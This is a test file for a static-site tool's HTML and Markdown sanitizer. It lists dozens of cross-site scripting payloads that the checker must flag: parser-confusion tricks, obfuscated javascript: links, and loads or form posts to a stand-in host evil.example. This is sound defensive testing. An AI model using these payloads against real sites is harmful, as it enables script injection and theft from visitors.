"""The second wall: what a browser would see in rendered HTML, also where a forgiving parser sees something else."""

from __future__ import annotations

from pathlib import Path, PurePosixPath

import markdown
import pytest
from imprenta.checks.acting import acting_html, scheme
from imprenta.checks.links import links_lead_somewhere
from imprenta.checks.markup import no_acting_html, no_acting_links
from imprenta.diagnostics import Diagnostic
from imprenta.model import Collection, Document, Part
from imprenta.press import open_press
from imprenta.source import read_text
from ruamel.yaml import YAML

from tests.sites import REPOSITORY, project

ACTS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script without an end": "<script src=//evil.example/x.js",
    "a NUL before a script": "a\0<script>alert(1)</script>",
    "handler": '<p onclick="alert(1)">x</p>',
    "handler after a slash": "<b/onclick=alert(1)>x</b>",
    "handler after a line break": "<b\nonclick=alert(1)>x</b>",
    "handler in capitals": "<b ONCLICK=alert(1)>x</b>",
    "second body": "<body onload=alert(1)>",
    "second html": "<html onclick=alert(1)>",
    "a drawing's style with an image": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "comment that ends at once": "<!--><img src=x onerror=alert(1)>-->",
    "comment that ends at once, with a hyphen": "<!---><img src=x onerror=alert(1)>-->",
    "comment that ends with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment that ends in what looks like a quotation": '<!-- <a title=" --><script>alert(1)</script>">',
    "CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?x ><img src=x onerror=alert(1)>?>",
    "closing tag that is none": "</ ><img src=x onerror=alert(1)>",
    "title that ends in a comment": "<title><!--</title><img src=x onerror=alert(1)>--></title>",
    "end of a tag in a quotation": '<a title="</a><b>">x</a><b onclick=alert(1)>',
    "unquoted quotation": '<a x=y" z=">x</a><script>alert(1)</script>',
    "address of a script": '<a href="javascript:alert(1)">x</a>',
    "address of a script, with entities": "<a href=&#106;avas&Tab;cript&colon;alert(1)>x</a>",
    "address of a script, with controls": '<a href="\x01java\nscript:alert(1)">x</a>',
    "address of a script in a drawing": '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "frame": '<iframe srcdoc="&lt;script&gt;"></iframe>',
    "form": '<form action="https://evil.example"><input></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0">',
    "style that loads": "<style>@import url(https://evil.example/a.css)</style>",
    "style attribute that loads": '<p style="background:url(https://evil.example/a.png)">x</p>',
    "style attribute that hides it": r'<p style="background:u\72l(https://evil.example/a.png)">x</p>',
    "image from elsewhere": '<img src="https://evil.example/a.png" alt="x">',
    "image set from elsewhere": '<img src="a.png" srcset="https://evil.example/a.png 2x" alt="x">',
    "drawing from elsewhere": '<svg><use href="https://evil.example/a.svg#b"/></svg>',
    "drawing from data": '<svg><use href="data:image/svg+xml,x#b"/></svg>',
    "attachment": '<a rel="attachment" href="a">x</a>',
    "attachment among others": '<link rel="stylesheet ATTACHMENT" href="a">',
    "namespaced element": "<svg:script>alert(1)</svg:script>",
    "math": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "template": "<template><b></b></template>",
    "ping": '<a href="https://example.org" ping="https://evil.example">x</a>',
}
RESTS = {
    "words": '<p>Un <em lang="pt">texto</em> con <a href="../agenda/#day">enlace</a> <code>&lt;script&gt;</code>.</p>',
    "less than": "<p>a < b, 3<4 y <3</p>",
    "table": '<table><tr><td style="text-align: right;">1</td></tr></table>',
    "external link": '<a href="https://example.org/?a=1&amp;b=2">x</a> <a href="mailto:a@example.org">y</a>',
    "image": '<img alt="Plano > 3" src="../images/plano.svg">',
    "drawing": '<svg viewBox="0 0 1 1"><path fill="url(#b)"/><title>T</title></svg>',
    "comment": "<p>a</p><!-- imprenta: permite TYP03: así lo escribe la fuente -->",
    "nothing": "",
}


@pytest.mark.parametrize("case", ACTS)
def test_acts(case: str) -> None:
    assert list(acting_html(ACTS[case]))


@pytest.mark.parametrize("case", RESTS)
def test_rests(case: str) -> None:
    assert list(acting_html(RESTS[case])) == []


def test_is_told_as_it_stands_there() -> None:
    assert list(acting_html('<p onclick="a()">x</p><blink>y</blink>')) == ['<p onclick="a()">', "<blink>"]


def test_an_editor_writes_links_images_and_styles_in_markdown() -> None:
    written = '<a href="x.html">a</a><img src="x.png"><b style="text-align: left;">c</b><kbd>d</kbd>'
    assert list(acting_html(written)) == []
    assert list(acting_html(written, written=True)) == ["<a>", "<img>", '<b style="text-align: left;">']


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("https://example.org", "https"),
        ("agenda.es.md", ""),
        ("JaVaScRiPt:x", "javascript"),
        (" java\tscr\nipt:x", "javascript"),
        ("\x00javascript:x", "javascript"),
        ("//evil.example", ""),
        ("http://[x", "?"),
    ],
)
def test_scheme(target: str, expected: str) -> None:
    assert scheme(target) == expected


def _extensions() -> tuple[list[str], dict[str, dict[str, object]]]:
    """Return the extensions of the real `mkdocs.yml`, without the fences, which need a page."""
    config = YAML(typ="rt").load((REPOSITORY / "mkdocs.yml").read_text(encoding="utf-8"))
    names: list[str] = []
    options: dict[str, dict[str, object]] = {}
    for item in config["markdown_extensions"]:
        name = item if isinstance(item, str) else next(iter(item))
        names.append(name)
        if not isinstance(item, str) and "superfences" not in name:
            options[name] = {
                key: value for key, value in item[name].items() if not hasattr(value, "tag") or not value.tag.value
            }
    return names, options


MARKDOWN = {
    "handler in a list": "[x](a.md){onclick=alert(1)}",
    "handler in a list with braces": '[x](a.md){onclick="f({})"}',
    "handler in a list with a colon": "[x](a.md){: #id  onclick=alert(1) }",
    "handler on a heading": "## Título {onmouseover=alert(1)}",
    "handler on a paragraph": "Un párrafo.\n{: onclick=alert(1) }",
    "handler on a fence": "```python {onclick=alert(1)}\nx\n```",
    "target in a list": "[x](a.md){href=javascript:alert(1)}",
    "inline link": "[x](javascript:alert(1))",
    "inline link in angles": "[x](<javascript:alert(1)>)",
    "inline link with entities": "[x](&#x6A;avascript&colon;alert(1))",
    "inline link with a tab": "[x](java&Tab;script:alert(1))",
    "inline link with a control": "[x](&#1;javascript:alert(1))",
    "inline link with an invisible STX": "[x](java\x02script:alert(1))",
    "link by reference": "[x][r]\n\n[r]: JAVASCRIPT:alert(1)",
    "link by its own name": "[r]\n\n[r]: javascript:alert(1) 'title'",
    "link in a table": "| a |\n| - |\n| [x](javascript:alert(1)) |",
    "link in a footnote": "x[^1]\n\n[^1]: [x](vbscript:alert(1))",
    "link in a note": '!!! note "Título"\n    [x](data:text/html,x)',
    "link in a heading": "## [x](javascript:alert(1))",
    "image from elsewhere": "![x](https://evil.example/a.png)",
    "raw script": "<script>alert(1)</script>",
    "raw script with an invisible STX": "<scr\x02ipt>alert(1)</scr\x02ipt>",
    "raw script in a paragraph": "Un <script>alert(1)</script> texto",
    "raw script in a list": "- <script>alert(1)</script>",
    "raw handler in a block": "<div\n onclick=alert(1)>x</div>",
    "raw body": "x <body onload=alert(1)> y",
    "attachment": '<a rel="attachment" href="file:///etc/passwd">x</a>',
    "attachment in a list": "[x](a.md){rel=attachment}",
}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Collection:
    opening = open_press(project(tmp_path_factory.mktemp("press")).root, "")
    assert opening.press
    return opening.press.collection


def _first_wall(source: str, tmp_path: Path, base: Collection) -> list[Diagnostic]:
    file = tmp_path / "x.es.md"
    file.write_text(f"# Título\n\n{source}\n", encoding="utf-8")
    text, problems = read_text(file, PurePosixPath("docs/x.es.md"))
    assert text
    page = Document(Part.PAGE, "x", "x", None, {"es": text})
    alone = Collection(base.root, base.folder, base.metadata, base.funding, pages=(page,))
    return [*problems, *no_acting_html(alone), *no_acting_links(alone), *links_lead_somewhere(alone)]


@pytest.mark.parametrize("case", MARKDOWN)
def test_both_walls_hold(case: str, tmp_path: Path, base: Collection) -> None:
    """What the site's own Markdown makes of it is refused once more, whatever the first reading thought."""
    names, options = _extensions()
    html = markdown.markdown(f"# Título\n\n{MARKDOWN[case]}\n", extensions=names, extension_configs=options)
    second = list(acting_html(html))
    if case == "handler on a fence":
        assert not second and "onclick" not in html.lower().replace("onclick=alert(1)}", "")
    elif not case.startswith("image"):
        assert second, html
    first = _first_wall(MARKDOWN[case], tmp_path, base)
    # The first wall may leave to the second what only the site's parser reads as markup.
    if case not in {"handler on a fence", "image from elsewhere", "handler in a list with braces"}:
        assert first, case
